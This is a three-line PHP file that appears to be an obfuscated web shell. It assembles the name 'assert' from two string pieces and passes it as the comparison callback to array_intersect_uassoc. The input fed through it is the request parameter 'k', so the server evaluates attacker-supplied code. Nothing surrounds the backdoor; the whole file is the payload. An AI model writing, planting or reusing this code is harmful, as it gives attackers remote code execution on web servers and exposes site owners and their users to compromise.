<?php
$cmp = 'as' . 'sert';
array_intersect_uassoc(array($_REQUEST['k'] => 1), array(0 => 1), $cmp);
